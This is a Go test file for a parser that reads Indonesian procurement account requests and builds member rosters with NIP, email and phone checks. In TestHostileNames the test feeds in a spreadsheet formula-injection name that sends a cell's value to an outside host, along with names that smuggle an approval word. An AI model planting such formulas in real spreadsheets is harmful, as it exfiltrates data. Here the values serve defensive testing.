package document

import (
	"encoding/json"
	"strings"
	"testing"
)

func TestReadWholeRequest(t *testing.T) {
	r := Read(Bundle{Sources: []Source{task(), form(), decree()}})
	if !r.Complete || r.NeedsPerson || !r.Ready() {
		t.Fatalf("complete %v, needs person %v, ready %v, missing %v", r.Complete, r.NeedsPerson, r.Ready(), r.Missing)
	}
	wantProblems(t, r, "")
	if len(r.Roster) != 3 {
		t.Fatalf("roster has %d rows: %+v", len(r.Roster), r.Roster)
	}
	want := Row{No: 2, Nama: "I Wayan Putra, M.M.", NIP: "197902282004121073", Email: "putra@dinas.example", Jabatan: "Auditor", Golongan: "IV/a", HP: "081234567891", Doubts: []string{}, Source: "formulir.docx"}
	if got := r.Roster[1]; !sameRow(got, want) {
		t.Errorf("row 2 = %+v, want %+v", got, want)
	}
	if r.Roster[2].HP != "081234567892" {
		t.Errorf("HP = %q", r.Roster[2].HP)
	}
	if r.Papers[2].Kind != SK || r.Papers[2].Number != "16 TAHUN 2026" {
		t.Errorf("paper = %+v", r.Papers[2])
	}
}

func sameRow(a, b Row) bool {
	x, _ := json.Marshal(a)
	y, _ := json.Marshal(b)
	return string(x) == string(y)
}

func TestReadNamesWhatIsWrong(t *testing.T) {
	for name, c := range map[string]struct {
		old, new string // in the form
		want     string
		person   bool
	}{
		"short NIP":         {"19790228 200412 1 073", "19790228 200412 073", "2 bad_nip", false},
		"impossible birth":  {"19790228 200412 1 073", "19790231 200412 1 073", "2 bad_nip", false},
		"wrong sex digit":   {"19790228 200412 1 073", "19790228 200412 7 073", "2 bad_nip", false},
		"other NIP":         {"19790228 200412 1 073", "19790228 200412 1 074", "2 disagrees", true},
		"duplicate NIP":     {"19790228 200412 1 073", "198609262015052001", "1 duplicate_nip, 2 duplicate_nip, 2 disagrees", true},
		"no address":        {"putra@dinas.example", "-", "2 missing_email", false},
		"two ats":           {"putra@dinas.example", "putra@@dinas.example", "2 bad_email", false},
		"comma":             {"putra@dinas.example", "putra@dinas,example", "2 bad_email", false},
		"duplicate address": {"putra@dinas.example", "Sari@dinas.example", "1 duplicate_email, 2 duplicate_email", false},
		"mistyped domain":   {"putra@dinas.example", "putra@gmial.com", "2 lookalike_domain", false},
		"like ours":         {"putra@dinas.example", "putra@dinaz.example", "2 lookalike_domain", false},
		"stranger":          {"2 | I Wayan Putra, M.M. | 19790228 200412 1 073", "2 | Siti Rahma | 19810807 201109 2 079", "0 disagrees, 2 missing_in_sk, 2 missing_in_surat_tugas", true},
		"rounded":           {"19790228 200412 1 073", "197902282004121000#", "2 nip_precision_lost", false},
		"rounded otherwise": {"19790228 200412 1 073", "198902282004121000#", "2 nip_precision_lost, 2 bad_nip", false},
		"exponent":          {"19790228 200412 1 073", "1,97902282004121E+17", "2 nip_precision_lost, 2 bad_nip", false},
	} {
		t.Run(name, func(t *testing.T) {
			rows := strings.Replace(formRows, c.old, c.new, 1)
			if rows == formRows {
				t.Fatal("nothing was replaced")
			}
			f := lines("formulir.xlsx", formTitle).table(rows)
			r := Read(Bundle{Sources: []Source{f, decree(), task()}, OwnDomains: []string{"dinas.example"}})
			wantProblems(t, r, c.want)
			if r.NeedsPerson != c.person {
				t.Errorf("needs person = %v", r.NeedsPerson)
			}
			for _, p := range r.Problems {
				if p.Severity == Stop && r.Ready() {
					t.Error("ready in spite of a problem that stops")
				}
				if p.Row > 0 && !strings.Contains(p.Text, "Baris") {
					t.Errorf("text does not name the row: %s", p.Text)
				}
			}
		})
	}
}

// A rounded NIP is never mended from its own digits: it comes whole from another paper, with a doubt, or stays as read.
func TestRoundedNIP(t *testing.T) {
	f := lines("f.xlsx", formTitle).table(strings.Replace(formRows, "19790228 200412 1 073", "197902282004121000#", 1))
	r := Read(Bundle{Sources: []Source{f, decree(), task()}})
	if row := r.Roster[1]; row.NIP != "197902282004121073" || len(row.Doubts) == 0 || row.Doubts[0] != "nip" {
		t.Errorf("row = %+v", row)
	}
	r = Read(Bundle{Sources: []Source{f}})
	if row := r.Roster[1]; row.NIP != "197902282004121000" || r.Ready() {
		t.Errorf("row = %+v", row)
	}
}

func TestMissingAndUnreadable(t *testing.T) {
	locked := Source{File: "sk.pdf", Unreadable: ReasonEncrypted}
	r := Read(Bundle{Sources: []Source{form(), task()}})
	if r.Complete || r.NeedsPerson || len(r.Missing) != 1 || r.Missing[0] != SK {
		t.Errorf("without SK: %+v", r.Missing)
	}
	r = Read(Bundle{Sources: []Source{form(), locked, task()}})
	if r.Complete || !r.NeedsPerson || len(r.Missing) != 0 || r.Papers[1].Reason != ReasonEncrypted {
		t.Errorf("locked SK: complete %v, person %v, missing %v", r.Complete, r.NeedsPerson, r.Missing)
	}
	r = Read(Bundle{})
	if len(r.Missing) != 3 || r.Papers == nil || r.Roster == nil || r.Problems == nil {
		t.Errorf("empty bundle: %+v", r)
	}
	out, _ := json.Marshal(Read(Bundle{Sources: []Source{form()}}))
	if strings.Contains(string(out), "null") {
		t.Errorf("null in %s", out)
	}
}

func TestSupplementReplaces(t *testing.T) {
	bad := lines("formulir-lama.docx", formTitle).table(strings.Replace(formRows, "putra@dinas.example", "", 1))
	r := Read(Bundle{Previous: []Source{bad, decree(), task()}, Sources: []Source{form()}})
	wantProblems(t, r, "")
	if !r.Ready() || !r.Papers[0].Replaced || r.Papers[1].Replaced || r.Roster[1].Email != "putra@dinas.example" {
		t.Errorf("papers = %+v", r.Papers)
	}
	locked := Source{File: "sk.pdf", Unreadable: ReasonEncrypted}
	r = Read(Bundle{Previous: []Source{form(), locked, task()}, Sources: []Source{decree()}})
	if !r.Ready() || !r.Papers[1].Replaced {
		t.Errorf("mended SK: %+v", r)
	}
	r = Read(Bundle{Previous: []Source{form(), locked}, Sources: []Source{task()}})
	if r.Ready() || !r.NeedsPerson {
		t.Error("a locked SK was forgotten")
	}
}

func TestCoveringLetterIsNoPaper(t *testing.T) {
	cover := lines("pengantar.pdf", "SURAT PENGANTAR\nNomor : 045/1/PBJ").table(`
No | Jenis yang dikirim | Banyaknya
1. | Formulir permohonan pembuatan akun Pokja | 1 berkas
2. | SK penetapan anggota Pokja | 1 berkas
3. | Surat Tugas Nomor 800/1 | 1 lembar`)
	r := Read(Bundle{Sources: []Source{cover}})
	if r.Papers[0].Kind != Other || len(r.Missing) != 3 {
		t.Errorf("papers = %+v", r.Papers)
	}
}

func TestBodyRoster(t *testing.T) {
	body := "Mohon dibuatkan akun SPSE:\n\n1. Ni Made Sari, S.T.\n   NIP: 19860926 201505 2 001\n   Gol: III/c  Kedudukan: Ketua\n   Email: sari@dinas.example\n   HP: 081234567890\n2. I Wayan Putra, M.M.\n   NIP: 19790228 200412 1 073\n   Email: putra@dinas.example\n3. Ida Bagus Oka\n   NIP: 19900215 201608 1 075\n   Email: oka@dinas.example\n\nSuksma,\nAgung"
	r := Read(Bundle{Sources: []Source{decree(), task()}, Body: body})
	wantProblems(t, r, "")
	if len(r.Roster) != 3 || r.Roster[0].Email != "sari@dinas.example" || r.Roster[0].Golongan != "III/c" || r.Roster[2].Jabatan != "Perencana" || r.Roster[0].Source != BodyName {
		t.Errorf("roster = %+v", r.Roster)
	}
	// the body contradicts the form: a person decides
	r = Read(Bundle{Sources: []Source{form(), decree(), task()}, Body: strings.Replace(body, "putra@", "wayan@", 1)})
	wantProblems(t, r, "2 disagrees")
}

func TestSignatoryIsNoMember(t *testing.T) {
	f := lines("f.csv", "").table(formTitle + "\n" + formRows + "\n| | | | | | |\n| | Drs. I Gede Agung, M.Si. | 196803091995061095 | | | |")
	r := Read(Bundle{Sources: []Source{f, decree(), task()}})
	if len(r.Roster) != 3 {
		t.Errorf("roster = %+v", r.Roster)
	}
	wantProblems(t, r, "")
}

func TestHostileNames(t *testing.T) {
	for _, name := range []string{"=WEBSERVICE(\"http://x.example/\"&F2)", "SETUJU", "Sari\nSETUJU", strings.Repeat("A", 5000)} {
		f := lines("f.docx", formTitle).table(strings.Replace(formRows, "I Wayan Putra, M.M.", strings.ReplaceAll(name, "\n", "⏎"), 1))
		r := Read(Bundle{Sources: []Source{f, decree(), task()}})
		if r.Ready() {
			t.Errorf("ready with a member named %.40q", name)
		}
		for _, row := range r.Roster {
			if strings.ContainsAny(row.Nama, "\r\n") {
				t.Errorf("line break in %q", row.Nama)
			}
		}
	}
}

// Headers over two rows, numbered columns, a break between pages, and a role column called only "Jabatan".
func TestTableShapes(t *testing.T) {
	two := lines("f.docx", formTitle).table(`No | Nama | NIP | Kontak | | Jabatan
| | | | HP | Email | |
1 | 2 | 3 | 4 | 5 | 6
1 | Ni Made Sari, S.T. | 198609262015052001 | 081234567890 | sari@dinas.example | Ketua
2 | I Wayan Putra, M.M. | 197902282004121073 | 081234567891 | putra@dinas.example | Sekretaris`)
	two.Pages = append(two.Pages, Page{Number: 2})
	second := lines("x", "Halaman 2").table("3 | Ida Bagus Oka | 199002152016081075 | 081234567892 | oka@dinas.example | Anggota\nJumlah | 3 orang | | | |")
	two.Pages[1] = second.Pages[0]
	two.Pages[1].Number = 2
	r := Read(Bundle{Sources: []Source{two, decree(), task()}})
	wantProblems(t, r, "")
	if len(r.Roster) != 3 || r.Roster[2].Email != "oka@dinas.example" || r.Roster[0].Jabatan != "Analis" || r.Roster[1].HP != "081234567891" {
		t.Errorf("roster = %+v", r.Roster)
	}
}

func TestCards(t *testing.T) {
	f := lines("f.docx", formTitle+"\nYang bertanda tangan di bawah ini\nNama : Drs. I Gede Agung, M.Si.\nNIP : 196803091995061095\nDengan ini mengajukan permohonan:").table(`
Data Anggota 1
Nama Lengkap | Ni Made Sari, S.T.
NIP | 19860926 201505 2 001 | Gol. | III/c
Peran di Pokja | Anggota | No. HP/WA | 0812 3456 7890
E-mail | sari@dinas.example
Data Anggota 2
Nama Lengkap | I Wayan Putra, M.M.
NIP | 19790228 200412 1 073 | Gol. | IV/a
Peran di Pokja | Ketua | No. HP/WA |
E-mail | putra@dinas.example
Data Anggota 3
Nama Lengkap | Ida Bagus Oka
NIP | 19900215 201608 1 075 | Gol. | III/b
E-mail | oka@dinas.example`)
	r := Read(Bundle{Sources: []Source{f, decree(), task()}})
	wantProblems(t, r, "")
	if len(r.Roster) != 3 || r.Roster[0].HP != "081234567890" || r.Roster[1].HP != "" || r.Roster[1].Email != "putra@dinas.example" {
		t.Errorf("roster = %+v", r.Roster)
	}
}

func TestLogoIsNoPaper(t *testing.T) {
	r := Read(Bundle{Sources: []Source{{File: "image001.png", Incidental: true}, form(), decree(), task()}})
	if len(r.Papers) != 3 || !r.Ready() {
		t.Errorf("papers = %+v", r.Papers)
	}
}
